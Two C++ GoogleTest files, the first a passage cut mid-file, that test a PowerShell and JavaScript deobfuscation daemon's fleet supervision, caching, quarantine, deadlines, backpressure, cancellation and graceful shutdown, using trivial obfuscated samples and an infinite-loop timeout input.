  const auto stats = server.stats();
  EXPECT_GE(stats.cache_hits_total, 1u);
  EXPECT_GE(stats.cache_stores_total, 1u);
  server.stop();
}

TEST(FleetServer, CorruptSharedCacheEntryDetectedAndRecomputed) {
  const std::string sock = temp_path("cachecorrupt.sock");
  const std::string source = "Write-Host 'poisoned entry'";
  ideobf::FaultInjector fault;
  ideobf::FaultSpec spec;
  spec.action = ideobf::FaultAction::Corrupt;
  spec.match_text = "poisoned entry";
  fault.arm(ideobf::FaultSite::CacheCorrupt, spec);

  ServerConfig cfg = base_config(sock);
  cfg.cache_path = temp_path("cache.bin");
  cfg.server_fault = &fault;
  Server server(std::move(cfg));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  // First call stores the entry, then the fault corrupts its payload.
  const ServeReply cold = client.call(deobf_request(source, "p1"));
  ASSERT_EQ(cold.status, "ok");

  // Second call: the checksum catches the corruption — a miss and a fresh
  // pipeline run, never a forged response.
  const ServeReply again = client.call(deobf_request(source, "p2"));
  ASSERT_EQ(again.status, "ok");
  EXPECT_FALSE(again.cached);
  EXPECT_EQ(again.response.result, cold.response.result);

  EXPECT_GE(server.stats().cache_corrupt_total, 1u);
  server.stop();
}

TEST(FleetServer, ReadyAndLiveProbes) {
  const std::string sock = temp_path("probes.sock");
  Server server(base_config(sock));
  server.start();
  ServeClient client = ServeClient::connect_unix(sock);
  EXPECT_TRUE(client.ready());
  EXPECT_TRUE(client.live());
  server.stop();
}

TEST(FleetServer, SighupReloadsQuarantineAndLimits) {
  const std::string sock = temp_path("reload.sock");
  const std::string qpath = temp_path("quarantine");
  const std::string killer = "Write-Host 'becomes quarantined'";

  ServerConfig cfg = base_config(sock);
  cfg.quarantine_path = qpath;  // does not exist yet
  Server server(std::move(cfg));
  server.start();
  server.install_signal_handlers();

  ServeClient client = ServeClient::connect_unix(sock);
  EXPECT_EQ(client.call(deobf_request(killer, "r1")).status, "ok");

  { std::ofstream(qpath) << script_hash_hex(killer) << "\n"; }
  ::raise(SIGHUP);

  // The reload is asynchronous (self-pipe -> accept loop); poll for it.
  bool quarantined = false;
  for (int i = 0; i < 100 && !quarantined; ++i) {
    const ServeReply reply =
        client.call(deobf_request(killer, "r" + std::to_string(i + 2)));
    quarantined = reply.response.failure == FailureKind::Quarantined;
    if (!quarantined) {
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
  }
  EXPECT_TRUE(quarantined);
  EXPECT_GE(server.stats().reloads_total, 1u);
  server.stop();
}

// ---------------------------------------------------------------------------
// Supervised fleet through the real CLI binary
// ---------------------------------------------------------------------------

#ifdef IDEOBF_CLI_PATH

/// Spawns `ideobf serve --fleet ...` and tears it down (SIGTERM, then
/// SIGKILL) on destruction.
struct FleetProcess {
  pid_t pid = -1;
  std::string socket_path;
  std::string state_dir;

  FleetProcess(std::vector<std::string> extra_args, unsigned workers) {
    socket_path = temp_path("fleet.sock");
    state_dir = temp_dir("fleet-state");
    std::vector<std::string> args = {
        IDEOBF_CLI_PATH, "serve",
        "--socket",      socket_path,
        "--fleet",       std::to_string(workers),
        "--state-dir",   state_dir,
        "--threads",     "1",
        "--backoff-initial-seconds", "0.05",
        "--backoff-max-seconds",     "0.5",
    };
    for (std::string& a : extra_args) args.push_back(std::move(a));

    std::vector<char*> argv;
    for (std::string& a : args) argv.push_back(a.data());
    argv.push_back(nullptr);
    pid = ::fork();
    if (pid == 0) {
      // Quiet the fleet's stderr chatter in test logs.
      ::execv(argv[0], argv.data());
      ::_exit(127);
    }
  }

  ~FleetProcess() {
    if (pid <= 0) return;
    ::kill(pid, SIGTERM);
    for (int i = 0; i < 300; ++i) {
      if (::waitpid(pid, nullptr, WNOHANG) == pid) return;
      ::usleep(20 * 1000);
    }
    ::kill(pid, SIGKILL);
    ::waitpid(pid, nullptr, 0);
  }

  /// Waits until a worker accepts and answers a ping.
  [[nodiscard]] bool wait_ready(double timeout_seconds = 20.0) const {
    const auto give_up = std::chrono::steady_clock::now() +
                         std::chrono::duration<double>(timeout_seconds);
    while (std::chrono::steady_clock::now() < give_up) {
      try {
        ServeClient client = ServeClient::connect_unix(socket_path);
        if (client.ready()) return true;
      } catch (const std::exception&) {
      }
      ::usleep(50 * 1000);
    }
    return false;
  }

  [[nodiscard]] std::string status_json() const {
    return read_file(state_dir + "/fleet.json");
  }
};

std::int64_t status_int(const std::string& json, const std::string& key) {
  auto value = ideobf::server::parse_json(json);
  if (!value) return -1;
  const auto* field = value->find(key);
  if (field == nullptr) return -1;
  return static_cast<std::int64_t>(field->as_double(-1));
}

/// First worker pid listed in fleet.json.
pid_t status_first_pid(const std::string& json) {
  auto value = ideobf::server::parse_json(json);
  if (!value) return -1;
  const auto* workers = value->find("workers");
  const auto* arr = workers == nullptr ? nullptr : workers->as_array();
  if (arr == nullptr || arr->empty()) return -1;
  const auto* pid = arr->front().find("pid");
  return pid == nullptr ? -1 : static_cast<pid_t>(pid->as_double(-1));
}

TEST(SupervisorFleet, CrashContainedAndRepeatKillerQuarantined) {
  // Every request whose script carries KILLME aborts its worker at the
  // dispatch site; everything else is innocent traffic.
  FleetProcess fleet({"--fault", "worker-abort:abort:match=KILLME",
                      "--quarantine-after", "2", "--no-cache"},
                     /*workers=*/2);
  ASSERT_GE(fleet.pid, 0);
  ASSERT_TRUE(fleet.wait_ready());

  const std::string killer = "Write-Host 'KILLME'";
  {
    ServeClient client = ServeClient::connect_unix(fleet.socket_path);
    EXPECT_EQ(client.call(deobf_request("Write-Host 'ok'", "i1")).status,
              "ok");
  }

  // The killer always gets a terminal reply — worker-crash from the retry
  // synthesizer or quarantined once the supervisor has seen enough crashes.
  {
    ServeClient client = ServeClient::connect_unix(fleet.socket_path);
    const ServeReply reply =
        client.call_retrying(deobf_request(killer, "k1"), 8);
    EXPECT_EQ(reply.status, "failed");
    EXPECT_TRUE(reply.response.failure == FailureKind::WorkerCrash ||
                reply.response.failure == FailureKind::Quarantined)
        << to_string(reply.response.failure);
  }

  // After at most 2 crashes the hash is quarantined: a fresh client gets
  // the terminal quarantined reply without any further worker death.
  bool quarantined = false;
  for (int i = 0; i < 200 && !quarantined; ++i) {
    ServeClient client = ServeClient::connect_unix(fleet.socket_path);
    const ServeReply reply = client.call_retrying(
        deobf_request(killer, "k" + std::to_string(i + 2)), 8);
    quarantined = reply.response.failure == FailureKind::Quarantined;
    if (!quarantined) ::usleep(50 * 1000);
  }
  EXPECT_TRUE(quarantined);

  // Innocent traffic still flows after all that.
  {
    ServeClient client = ServeClient::connect_unix(fleet.socket_path);
    const ServeReply reply =
        client.call_retrying(deobf_request("Write-Host 'still up'", "i2"), 8);
    EXPECT_EQ(reply.status, "ok");
  }

  const std::string status = fleet.status_json();
  EXPECT_GE(status_int(status, "crashes_total"), 2);
  EXPECT_GE(status_int(status, "quarantine_count"), 1);

  // The quarantine file survives for the next fleet generation.
  const std::string qfile = read_file(fleet.state_dir + "/quarantine");
  EXPECT_NE(qfile.find(script_hash_hex(killer)), std::string::npos);
}

TEST(SupervisorFleet, RestartsWorkerAfterKillDashNine) {
  FleetProcess fleet({}, /*workers=*/1);
  ASSERT_GE(fleet.pid, 0);
  ASSERT_TRUE(fleet.wait_ready());

  const pid_t victim = status_first_pid(fleet.status_json());
  ASSERT_GT(victim, 0);
  ASSERT_EQ(::kill(victim, SIGKILL), 0);

  // The supervisor notices, backs off briefly, and respawns the slot.
  pid_t replacement = -1;
  for (int i = 0; i < 400; ++i) {
    replacement = status_first_pid(fleet.status_json());
    if (replacement > 0 && replacement != victim) break;
    ::usleep(25 * 1000);
  }
  ASSERT_GT(replacement, 0);
  EXPECT_NE(replacement, victim);

  ServeClient client = ServeClient::connect_unix(fleet.socket_path);
  const ServeReply reply =
      client.call_retrying(deobf_request("Write-Host 'back'", "rk1"), 8);
  EXPECT_EQ(reply.status, "ok");
}

TEST(SupervisorFleet, SharedCacheServesAcrossWorkers) {
  FleetProcess fleet({}, /*workers=*/2);
  ASSERT_GE(fleet.pid, 0);
  ASSERT_TRUE(fleet.wait_ready());

  const std::string source = "wr`ite-ho`st 'fleet cache'";
  // Prime through one connection, then hammer through fresh connections:
  // whichever worker accepts, the shared mmap region answers.
  {
    ServeClient client = ServeClient::connect_unix(fleet.socket_path);
    ASSERT_EQ(client.call(deobf_request(source, "w0")).status, "ok");
  }
  int cached_seen = 0;
  for (int i = 0; i < 8; ++i) {
    ServeClient client = ServeClient::connect_unix(fleet.socket_path);
    const ServeReply reply =
        client.call(deobf_request(source, "w" + std::to_string(i + 1)));
    ASSERT_EQ(reply.status, "ok");
    if (reply.cached) cached_seen++;
  }
  // With 2 workers and 8 fresh connections, hits must appear on both
  // workers' accept shares; anything less than a majority means the region
  // is not actually shared.
  EXPECT_GE(cached_seen, 5);
}

TEST(SupervisorFleet, FleetScopeMetricsMergeAcrossWorkers) {
  FleetProcess fleet({}, /*workers=*/2);
  ASSERT_GE(fleet.pid, 0);
  ASSERT_TRUE(fleet.wait_ready());

  // Serve some traffic so both workers have counters worth merging.
  for (int i = 0; i < 6; ++i) {
    ServeClient client = ServeClient::connect_unix(fleet.socket_path);
    const ServeReply reply = client.call(
        deobf_request("Write-Host 'merge me'", "fm" + std::to_string(i)));
    ASSERT_EQ(reply.status, "ok");
  }
  // SIGHUP fans out to every worker and makes each dump its metrics
  // snapshot, so a fleet-scope query right after sees all siblings fresh.
  ASSERT_EQ(::kill(fleet.pid, SIGHUP), 0);

  // Whichever worker answers merges its own live registry with the
  // siblings' snapshot files; poll until both worker labels are present.
  bool merged = false;
  std::string exposition;
  int fleet_workers = 0;
  for (int i = 0; i < 400 && !merged; ++i) {
    ServeClient client = ServeClient::connect_unix(fleet.socket_path);
    const ideobf::MetricsReply m = client.metrics_reply(/*fleet_scope=*/true);
    exposition = m.exposition;
    fleet_workers = m.fleet_workers;
    merged = exposition.find("worker=\"0\"") != std::string::npos &&
             exposition.find("worker=\"1\"") != std::string::npos;
    if (!merged) ::usleep(25 * 1000);
  }
  EXPECT_TRUE(merged) << exposition.substr(0, 2000);
  EXPECT_GE(fleet_workers, 2);
  // The fleet-wide sum appears under the original (worker-less) labels.
  EXPECT_NE(exposition.find("ideobf_server_requests_total"),
            std::string::npos);
}

TEST(SupervisorFleet, KillDashNineYieldsPostmortemNamingInflightRequests) {
  // A request whose script carries STALLME parks inside dispatch for far
  // longer than this test runs — guaranteed to still be in flight when the
  // worker is killed.
  FleetProcess fleet({"--fault", "worker-hang:delay:delay=30:match=STALLME"},
                     /*workers=*/1);
  ASSERT_GE(fleet.pid, 0);
  ASSERT_TRUE(fleet.wait_ready());

  // Fire the stalling request without waiting for its (never-coming) reply.
  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  ASSERT_GE(fd, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::strncpy(addr.sun_path, fleet.socket_path.c_str(),
               sizeof(addr.sun_path) - 1);
  ASSERT_EQ(::connect(fd, reinterpret_cast<const sockaddr*>(&addr),
                      sizeof(addr)),
            0);
  std::string line = ideobf::server::render_request_line(
      deobf_request("Write-Host 'STALLME'", "stuck-req"));
  line += '\n';
  ASSERT_EQ(::send(fd, line.data(), line.size(), 0),
            static_cast<ssize_t>(line.size()));

  // The flight-recorder mirror (always on in fleet mode) shows the request
  // in flight before we pull the trigger.
  bool inflight = false;
  for (int i = 0; i < 400 && !inflight; ++i) {
    const std::string mirror = read_file(fleet.state_dir + "/flight.0");
    inflight = mirror.find("stuck-req") != std::string::npos &&
               mirror.find("\"outcome\":\"inflight\"") != std::string::npos;
    if (!inflight) ::usleep(25 * 1000);
  }
  ASSERT_TRUE(inflight);

  const pid_t victim = status_first_pid(fleet.status_json());
  ASSERT_GT(victim, 0);
  ASSERT_EQ(::kill(victim, SIGKILL), 0);

  // The supervisor harvests the mirror into a postmortem that names the
  // request that died with the worker.
  std::string postmortem;
  for (int i = 0; i < 400; ++i) {
    postmortem = read_file(fleet.state_dir + "/postmortem.0.json");
    if (!postmortem.empty()) break;
    ::usleep(25 * 1000);
  }
  ASSERT_FALSE(postmortem.empty());
  EXPECT_NE(postmortem.find("\"signaled\":true"), std::string::npos)
      << postmortem;
  EXPECT_NE(postmortem.find("\"outcome\":\"inflight\""), std::string::npos)
      << postmortem;
  EXPECT_NE(postmortem.find("stuck-req"), std::string::npos) << postmortem;
  ::close(fd);
}

TEST(SupervisorFleet, MixedLanguageBatchThroughRealServeBinary) {
  // A live fleet serving both front-ends: interleaved PowerShell, explicit
  // JavaScript, and sniffed "auto" requests over one socket, every reply
  // naming the concrete front-end that served it.
  FleetProcess fleet({"--no-cache"}, /*workers=*/2);
  ASSERT_GE(fleet.pid, 0);
  ASSERT_TRUE(fleet.wait_ready());

  ServeClient client = ServeClient::connect_unix(fleet.socket_path);
  for (int round = 0; round < 4; ++round) {
    const std::string tag = std::to_string(round);

    ideobf::Request ps = deobf_request("wr`ite-ho`st 'fleet'", "ps-" + tag);
    const ideobf::ServeReply ps_reply = client.call(ps);
    EXPECT_EQ(ps_reply.status, "ok");
    EXPECT_EQ(ps_reply.response.language, "powershell");
    EXPECT_NE(ps_reply.response.result.find("Write-Host"), std::string::npos);

    ideobf::Request js =
        deobf_request("eval('h' + '(\"fleet\")');", "js-" + tag);
    js.language = "javascript";
    const ideobf::ServeReply js_reply = client.call(js);
    EXPECT_EQ(js_reply.status, "ok");
    EXPECT_EQ(js_reply.response.language, "javascript");
    EXPECT_EQ(js_reply.response.result, "h(\"fleet\");");
    EXPECT_EQ(js_reply.response.report.multilayer.layers_unwrapped, 1);

    ideobf::Request sniffed =
        deobf_request("var u = atob('aGk=');\nsend(u);\n", "auto-" + tag);
    sniffed.language = "auto";
    const ideobf::ServeReply auto_reply = client.call(sniffed);
    EXPECT_EQ(auto_reply.status, "ok");
    EXPECT_EQ(auto_reply.response.language, "javascript");
    EXPECT_NE(auto_reply.response.result.find("'hi'"), std::string::npos)
        << auto_reply.response.result;
  }
}

#endif  // IDEOBF_CLI_PATH

}  // namespace
