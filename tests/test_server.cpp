// The `ideobf serve` daemon end to end: in-process daemon on a temp Unix
// socket, real clients over the real wire. Round trips, per-request
// envelopes (deadline expiry), bounded-queue backpressure, client
// disconnect cancelling its own in-flight work, graceful drain serving
// everything accepted before the stop, and the canonical cancellation
// detail string shared with the batch watchdog.

#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <chrono>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "gtest/gtest.h"
#include "ideobf/client.h"
#include "server/flight_recorder.h"
#include "server/protocol.h"
#include "server/server.h"

namespace {

using ideobf::FailureKind;
using ideobf::Request;
using ideobf::ServeClient;
using ideobf::ServeReply;
using ideobf::server::Server;
using ideobf::server::ServerConfig;

/// The hostile input of choice: runs until something external stops it.
constexpr const char* kInfiniteLoop = "$a = $( while ($true) { 1 } )\n$a\n";
/// A benign input with a predictable normalization.
constexpr const char* kTicked = "wr`ite-ho`st 'hello'";

std::string test_socket(const std::string& name) {
  return "/tmp/ideobf-test-" + name + "-" + std::to_string(::getpid()) +
         ".sock";
}

ServerConfig base_config(const std::string& socket_path) {
  ServerConfig cfg;
  cfg.unix_socket_path = socket_path;
  cfg.threads = 2;
  return cfg;
}

/// A raw fire-and-forget connection, for tests that must send without
/// consuming the reply (pipelining, disconnect) — ServeClient is strictly
/// call/response.
struct RawConn {
  int fd = -1;

  explicit RawConn(const std::string& socket_path) {
    fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    EXPECT_GE(fd, 0);
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    EXPECT_LT(socket_path.size(), sizeof(addr.sun_path));
    std::memcpy(addr.sun_path, socket_path.c_str(), socket_path.size() + 1);
    EXPECT_EQ(0, ::connect(fd, reinterpret_cast<sockaddr*>(&addr),
                           sizeof(addr)))
        << std::strerror(errno);
  }
  ~RawConn() {
    if (fd >= 0) ::close(fd);
  }

  void send_line(std::string line) {
    line.push_back('\n');
    ASSERT_EQ(static_cast<ssize_t>(line.size()),
              ::send(fd, line.data(), line.size(), MSG_NOSIGNAL));
  }

  std::string recv_line() {
    std::string buf;
    char c = 0;
    while (::recv(fd, &c, 1, 0) == 1) {
      if (c == '\n') return buf;
      buf.push_back(c);
    }
    return buf;
  }
};

Request deobf_request(const std::string& source, const std::string& id,
                      std::uint64_t deadline_ms = 0) {
  Request request;
  request.source = source;
  request.id = id;
  request.deadline_ms = deadline_ms;
  return request;
}

/// A request that genuinely occupies a worker until the clock (or a cancel)
/// stops it: the per-request options lift the per-piece step cap out of
/// reach, exactly like the governor tests do.
Request hostile_request(const std::string& id, std::uint64_t deadline_ms) {
  Request request = deobf_request(kInfiniteLoop, id, deadline_ms);
  ideobf::Options options;
  options.limits.max_steps_per_piece = std::size_t{1} << 40;
  request.options = options;
  return request;
}

}  // namespace

TEST(ServerTest, RoundTripNormalizesAndEchoesId) {
  const std::string sock = test_socket("roundtrip");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  const ServeReply reply = client.call(deobf_request(kTicked, "req-1"));
  EXPECT_EQ(reply.status, "ok");
  EXPECT_TRUE(reply.response.ok);
  EXPECT_EQ(reply.response.id, "req-1");
  EXPECT_NE(reply.response.result.find("Write-Host"), std::string::npos)
      << reply.response.result;
  EXPECT_GT(reply.response.report.token.ticks_removed, 0);
  EXPECT_EQ(reply.response.failure, FailureKind::None);
  EXPECT_GE(reply.response.seconds, 0.0);

  server.stop();
  EXPECT_GE(server.stats().ok_total, 1u);
}

TEST(ServerTest, PingMetricsAndTraceOnTheWire) {
  const std::string sock = test_socket("ops");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  EXPECT_TRUE(client.ping());

  // A traced request round-trips its structured trace through the NDJSON.
  Request request = deobf_request(kTicked, "traced");
  request.trace = true;
  const ServeReply traced = client.call(request);
  EXPECT_EQ(traced.status, "ok");
  EXPECT_FALSE(traced.response.report.trace.empty());

  const std::string metrics = client.metrics();
  EXPECT_NE(metrics.find("ideobf_server_requests_total"), std::string::npos);
  EXPECT_NE(metrics.find("ideobf_server_connections_total"),
            std::string::npos);
  server.stop();
}

TEST(ServerTest, MalformedRequestsAreRefusedNotGuessed) {
  const std::string sock = test_socket("invalid");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  // Malformed JSON, a typoed key, a wrong type, a missing source, integers
  // a cast could not represent, and number spellings outside the JSON
  // grammar must each produce an "invalid" refusal — and the connection
  // stays usable.
  for (const char* bad : {
           "{not json",
           R"({"op":"deobfuscate","source":"x","bogus_key":1})",
           R"({"op":"deobfuscate","source":42})",
           R"({"op":"deobfuscate"})",
           R"({"op":"deobfuscate","source":"x","options":{"limits":{"deadlin_seconds":1}}})",
           // In-grammar numbers that no integer field can hold: the guards
           // must refuse them instead of invoking UB in the cast.
           R"({"op":"deobfuscate","source":"x","deadline_ms":1e300})",
           R"({"op":"deobfuscate","source":"x","options":{"limits":{"max_layers":1e30}}})",
           R"({"op":"deobfuscate","source":"x","options":{"limits":{"max_layers":-1e30}}})",
           // Spellings RFC 8259 forbids: leading zero, bare fraction,
           // trailing dot.
           R"({"op":"deobfuscate","source":"x","deadline_ms":01})",
           R"({"op":"deobfuscate","source":"x","deadline_ms":.5})",
           R"({"op":"deobfuscate","source":"x","deadline_ms":1.})",
       }) {
    ServeReply reply;
    std::string error;
    ASSERT_TRUE(ideobf::server::parse_reply_line(client.raw_call(bad), reply,
                                                 error))
        << error;
    EXPECT_EQ(reply.status, "invalid") << bad;
    EXPECT_FALSE(reply.response.ok);
  }
  const ServeReply good = client.call(deobf_request(kTicked, "after"));
  EXPECT_EQ(good.status, "ok");

  server.stop();
  EXPECT_GE(server.stats().invalid_total, 11u);
}

TEST(ServerTest, ConcurrentClientsAllServed) {
  const std::string sock = test_socket("concurrent");
  ServerConfig cfg = base_config(sock);
  cfg.threads = 4;
  Server server(std::move(cfg));
  server.start();

  constexpr int kClients = 8;
  constexpr int kRequestsEach = 5;
  std::vector<std::thread> clients;
  std::atomic<int> served{0};
  for (int c = 0; c < kClients; ++c) {
    clients.emplace_back([&, c] {
      ServeClient client = ServeClient::connect_unix(sock);
      for (int r = 0; r < kRequestsEach; ++r) {
        const std::string id =
            "c" + std::to_string(c) + "-r" + std::to_string(r);
        const ServeReply reply = client.call(deobf_request(kTicked, id));
        if (reply.status == "ok" && reply.response.id == id &&
            reply.response.result.find("Write-Host") != std::string::npos) {
          served.fetch_add(1);
        }
      }
    });
  }
  for (std::thread& t : clients) t.join();
  EXPECT_EQ(served.load(), kClients * kRequestsEach);

  server.stop();
  const auto stats = server.stats();
  EXPECT_EQ(stats.ok_total, static_cast<std::uint64_t>(kClients) *
                                kRequestsEach);
  EXPECT_EQ(stats.connections_total, static_cast<std::uint64_t>(kClients));
}

TEST(ServerTest, DeadlineExpiryDegradesToPassthrough) {
  const std::string sock = test_socket("deadline");
  ServerConfig cfg = base_config(sock);
  cfg.threads = 1;
  Server server(std::move(cfg));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  const auto start = std::chrono::steady_clock::now();
  const ServeReply reply =
      client.call(hostile_request("hostile", /*deadline_ms=*/300));
  const double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  // The full-strength attempt times out; a safer rung still serves real
  // output, so the verdict is "degraded", not "failed".
  EXPECT_EQ(reply.status, "degraded");
  EXPECT_TRUE(reply.response.ok);
  EXPECT_EQ(reply.response.failure, FailureKind::Timeout);
  EXPECT_GE(reply.response.report.degradation_rung, 1);
  EXPECT_FALSE(reply.response.result.empty());
  // Ladder worst case is 1.75x the deadline plus scheduling noise.
  EXPECT_LT(elapsed, 5.0);
  server.stop();
  EXPECT_GE(server.stats().degraded_total, 1u);
}

TEST(ServerTest, FullQueueAnswersOverloaded) {
  const std::string sock = test_socket("backpressure");
  ServerConfig cfg = base_config(sock);
  cfg.threads = 1;
  cfg.max_queue = 1;
  Server server(std::move(cfg));
  server.start();

  // Occupy the single worker, then fill the single queue slot.
  RawConn busy(sock);
  busy.send_line(
      ideobf::server::render_request_line(hostile_request("busy", 2000)));
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  RawConn queued(sock);
  queued.send_line(
      ideobf::server::render_request_line(hostile_request("queued", 2000)));
  std::this_thread::sleep_for(std::chrono::milliseconds(100));

  // The next request must be refused immediately, not buffered.
  ServeClient client = ServeClient::connect_unix(sock);
  const auto start = std::chrono::steady_clock::now();
  const ServeReply reply = client.call(deobf_request(kTicked, "rejected"));
  const double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  EXPECT_EQ(reply.status, "overloaded");
  EXPECT_FALSE(reply.response.ok);
  EXPECT_EQ(reply.response.id, "rejected");
  EXPECT_LT(elapsed, 1.0);  // backpressure is explicit AND immediate

  server.stop();
  EXPECT_GE(server.stats().overloaded_total, 1u);
}

TEST(ServerTest, DisconnectCancelsOwnWorkAndFreesTheWorker) {
  const std::string sock = test_socket("disconnect");
  ServerConfig cfg = base_config(sock);
  cfg.threads = 1;
  Server server(std::move(cfg));
  server.start();

  {
    // An hour-long hostile request... whose client immediately hangs up.
    RawConn doomed(sock);
    doomed.send_line(ideobf::server::render_request_line(
        hostile_request("doomed", 3600 * 1000)));
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
  }  // ~RawConn closes the socket: disconnect

  // The disconnect must cancel the in-flight run; the single worker comes
  // free long before the hour-long deadline.
  ServeClient client = ServeClient::connect_unix(sock);
  const auto start = std::chrono::steady_clock::now();
  const ServeReply reply = client.call(deobf_request(kTicked, "next"));
  const double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  EXPECT_EQ(reply.status, "ok");
  EXPECT_LT(elapsed, 30.0);

  server.stop();
  EXPECT_GE(server.stats().disconnect_cancelled_total, 1u);
}

TEST(ServerTest, GracefulDrainServesAcceptedWorkAndRefusesNew) {
  const std::string sock = test_socket("drain");
  ServerConfig cfg = base_config(sock);
  cfg.threads = 1;
  Server server(std::move(cfg));
  server.start();

  // Occupy the worker, and queue one benign request behind it.
  RawConn busy(sock);
  busy.send_line(
      ideobf::server::render_request_line(hostile_request("busy", 700)));
  std::this_thread::sleep_for(std::chrono::milliseconds(150));
  RawConn pending(sock);
  pending.send_line(ideobf::server::render_request_line(
      deobf_request(kTicked, "pending")));
  std::this_thread::sleep_for(std::chrono::milliseconds(50));

  // Ask for a graceful drain, then try to submit new work.
  RawConn control(sock);
  control.send_line(ideobf::server::render_op_line("shutdown"));
  EXPECT_NE(control.recv_line().find("\"shutdown\":true"), std::string::npos);
  control.send_line(ideobf::server::render_request_line(
      deobf_request(kTicked, "too-late")));
  const std::string refused = control.recv_line();
  EXPECT_NE(refused.find("shutting-down"), std::string::npos) << refused;

  // The queued request was accepted before the stop: it must still be
  // served, with real output.
  ServeReply pending_reply;
  std::string error;
  ASSERT_TRUE(ideobf::server::parse_reply_line(pending.recv_line(),
                                               pending_reply, error))
      << error;
  EXPECT_EQ(pending_reply.status, "ok");
  EXPECT_NE(pending_reply.response.result.find("Write-Host"),
            std::string::npos);

  server.wait();
  EXPECT_GE(server.stats().shutting_down_total, 1u);
}

TEST(ServerTest, DrainGraceCancelsStragglersWithCanonicalDetail) {
  const std::string sock = test_socket("graced");
  ServerConfig cfg = base_config(sock);
  cfg.threads = 1;
  cfg.drain_grace_seconds = 0.3;
  Server server(std::move(cfg));
  server.start();

  // A straggler that would outlive any reasonable drain.
  ServeReply straggler;
  std::thread straggler_thread([&] {
    ServeClient client = ServeClient::connect_unix(sock);
    straggler = client.call(hostile_request("straggler", 3600 * 1000));
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(300));

  ServeClient control = ServeClient::connect_unix(sock);
  control.shutdown_server();
  server.wait();
  straggler_thread.join();

  // The grace backstop cancelled it — and the cancellation surfaces the ONE
  // canonical detail string shared with every other cancel path
  // (ideobf::kCancelledDetail; the batch watchdog asserts the same string).
  EXPECT_EQ(straggler.status, "failed");
  EXPECT_EQ(straggler.response.failure, FailureKind::Cancelled);
  EXPECT_EQ(straggler.response.failure_detail,
            std::string(ideobf::kCancelledDetail));
  EXPECT_GE(server.stats().watchdog_cancelled_total, 1u);
}

TEST(ServerTest, PerRequestOptionsObjectRidesTheWire) {
  const std::string sock = test_socket("options");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  // Disable the token pass for this one request: the ticks must survive.
  Request request = deobf_request(kTicked, "opted");
  ideobf::Options options;
  options.token_pass = false;
  options.ast_recovery = false;
  options.rename = false;
  options.reformat = false;
  request.options = options;
  const ServeReply reply = client.call(request);
  EXPECT_EQ(reply.status, "ok");
  EXPECT_NE(reply.response.result.find('`'), std::string::npos)
      << reply.response.result;
  // The same source without the override normalizes as usual.
  const ServeReply normal = client.call(deobf_request(kTicked, "normal"));
  EXPECT_EQ(normal.response.result.find('`'), std::string::npos);
  server.stop();
}

TEST(ServerTest, TcpLoopbackSpeaksTheSameProtocol) {
  const std::string sock = test_socket("tcp");
  ServerConfig cfg = base_config(sock);
  cfg.tcp = true;
  cfg.tcp_port = 0;  // ephemeral
  Server server(std::move(cfg));
  server.start();
  ASSERT_NE(server.tcp_port(), 0);

  ServeClient client = ServeClient::connect_tcp(server.tcp_port());
  EXPECT_TRUE(client.ping());
  const ServeReply reply = client.call(deobf_request(kTicked, "tcp"));
  EXPECT_EQ(reply.status, "ok");
  EXPECT_NE(reply.response.result.find("Write-Host"), std::string::npos);
  server.stop();
}

TEST(ServerTest, SlowConsumerCannotWedgeWorkersOrDrain) {
  const std::string sock = test_socket("slowreader");
  ServerConfig cfg = base_config(sock);
  cfg.threads = 1;
  cfg.send_timeout_seconds = 0.3;
  Server server(std::move(cfg));
  server.start();

  // A response far larger than any socket buffer, sent to a client that
  // never reads: the worker's send must time out and drop the connection
  // instead of blocking forever on the single worker slot.
  RawConn stalled(sock);
  std::string big_source = "$x = '";
  big_source.append(4u << 20, 'a');
  big_source += "'";
  stalled.send_line(
      ideobf::server::render_request_line(deobf_request(big_source, "big")));
  std::this_thread::sleep_for(std::chrono::milliseconds(200));

  // The worker frees itself in ~send_timeout; a live client is served well
  // within the test budget.
  ServeClient client = ServeClient::connect_unix(sock);
  const auto start = std::chrono::steady_clock::now();
  const ServeReply reply = client.call(deobf_request(kTicked, "live"));
  const double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  EXPECT_EQ(reply.status, "ok");
  EXPECT_LT(elapsed, 10.0);

  // And the drain cannot hang on the stalled writer either.
  server.stop();
}

TEST(ServerTest, ShutdownOverTcpIsRefusedByDefault) {
  const std::string sock = test_socket("tcpshutdown");
  ServerConfig cfg = base_config(sock);
  cfg.tcp = true;
  Server server(std::move(cfg));
  server.start();
  ASSERT_NE(server.tcp_port(), 0);

  // TCP loopback is submit-only: the shutdown op is refused and the daemon
  // keeps serving.
  ServeClient tcp = ServeClient::connect_tcp(server.tcp_port());
  const std::string refused =
      tcp.raw_call(ideobf::server::render_op_line("shutdown"));
  EXPECT_NE(refused.find("invalid"), std::string::npos) << refused;
  EXPECT_NE(refused.find("not permitted"), std::string::npos) << refused;
  EXPECT_TRUE(tcp.ping());

  // The unix socket stays the trusted control plane.
  ServeClient control = ServeClient::connect_unix(sock);
  control.shutdown_server();
  server.wait();
}

TEST(ServerTest, RefusesToReplaceANonSocketPath) {
  const std::string path = test_socket("clobber");
  const int fd = ::open(path.c_str(), O_CREAT | O_WRONLY | O_TRUNC, 0644);
  ASSERT_GE(fd, 0);
